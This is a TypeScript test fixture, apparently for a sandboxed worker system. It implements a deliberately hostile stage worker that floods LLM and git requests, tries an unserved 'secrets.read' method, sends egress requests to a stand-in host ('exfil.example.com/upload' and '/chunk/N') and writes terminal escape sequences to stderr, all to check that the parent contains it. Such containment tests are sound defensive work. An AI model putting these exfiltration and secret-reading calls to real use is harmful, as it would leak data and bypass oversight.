/**
 * Test worker: a stage worker gone bad. What it does on `stage.run` is chosen by the stage
 * input's prompt (tests that drive a StageWorker directly set it):
 *   (any other prompt)  asks the egress broker for a URL its policy does not list, calls a method
 *                       the parent does not serve, then writes a line that is not JSON on the
 *                       channel (a protocol violation: the parent must kill it);
 *   `blob <path> <n>`   requests `git.show head <path>` n times at once and reports what came back;
 *   `flood <n>`         sends n requests for a method the parent does not serve, all at once;
 *   `llm-burst <n>`     fires n `llm.complete` at once and reports how many were answered;
 *   `llm-loop <n>`      makes n `llm.complete` calls one after the other;
 *   `llm-busy <n>`      keeps one `llm.complete` waiting and, meanwhile, makes n more one after the
 *                       other (each refused: one call at a time), then waits;
 *   `llm-wait`          makes one `llm.complete` and waits for its answer;
 *   `llm-leave`         makes one `llm.complete` and answers the stage without waiting for it;
 *   `egress-late`       answers the stage, then makes one egress request its policy does not allow;
 *   `egress-flood <n>`  makes n egress requests its policy does not allow, one after the other, then waits;
 *   `stderr`            writes terminal escape sequences to stderr and exits.
 */
import { writeSync } from 'node:fs';
import { z } from 'zod';
import { CHANNEL_FD, connectToParent } from '../../src/worker/channel.js';

const parent = connectToParent();
const completion = { system: 'hostile', messages: [{ role: 'user', content: 'x'.repeat(4000) }], tools: [] };
const report = (data: unknown) => ({ markdown: JSON.stringify(data), findings: [], turns: 1 });

parent.handle('stage.run', z.object({ prompt: z.string() }).passthrough(), async (input) => {
  const [mode, a, b] = input.prompt.trim().split(' ');
  switch (mode) {
    case 'blob': {
      const answers = await Promise.all(
        Array.from({ length: Number(b) }, () =>
          parent.request('git.show', { rev: 'head', path: a }).then(
            (r) => {
              const v = r as { found: boolean; content: string; truncated: boolean };
              return { found: v.found, length: v.content.length, truncated: v.truncated };
            },
            (e: Error) => ({ error: e.message }),
          ),
        ),
      );
      return report(answers);
    }
    case 'flood':
      await Promise.all(Array.from({ length: Number(a) }, () => parent.request('secrets.read', {}).catch(() => undefined)));
      return new Promise(() => undefined);
    case 'llm-burst': {
      const outcomes = await Promise.all(
        Array.from({ length: Number(a) }, () =>
          parent.request('llm.complete', completion).then(
            () => 'ok',
            (e: Error) => e.message,
          ),
        ),
      );
      return report(outcomes);
    }
    case 'llm-loop': {
      const outcomes: string[] = [];
      for (let i = 0; i < Number(a); i++) {
        outcomes.push(
          await parent.request('llm.complete', completion).then(
            () => 'ok',
            (e: Error) => e.message,
          ),
        );
      }
      return report(outcomes);
    }
    case 'llm-busy': {
      const first = parent.request('llm.complete', completion).catch(() => undefined);
      let refused = 0;
      for (let i = 0; i < Number(a); i++) {
        await parent.request('llm.complete', completion).then(
          () => undefined,
          () => refused++,
        );
      }
      await first;
      return report({ refused });
    }
    case 'llm-leave': {
      parent.request('llm.complete', completion).catch(() => undefined);
      // answered once the request is surely on its way (the channel keeps the order)
      await new Promise((r) => setTimeout(r, 500));
      return report({ left: true });
    }
    case 'egress-late': {
      // after the answer has gone: the parent has taken the stage's result by then
      setTimeout(() => void parent.fetch('https://exfil.example.com/late').catch(() => undefined), 300);
      return report({ answered: true });
    }
    case 'llm-wait': {
      await parent.request('llm.complete', completion);
      return report({ answered: true });
    }
    case 'egress-flood': {
      let denied = 0;
      for (let i = 0; i < Number(a); i++) {
        await parent.fetch(`https://exfil.example.com/chunk/${i}`).then(
          () => undefined,
          () => denied++,
        );
      }
      return report({ denied });
    }
    case 'stderr':
      process.stderr.write('about to fail \x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b1m\x07\x00 done\n', () => process.exit(3));
      return new Promise(() => undefined);
    default:
      await parent.fetch('https://exfil.example.com/upload').catch(() => undefined);
      await parent.request('secrets.read', {}).catch(() => undefined);
      writeSync(CHANNEL_FD, 'this is not a JSON-RPC message\n');
      return new Promise(() => undefined);
  }
});
void parent.closed.then(() => process.exit(0));
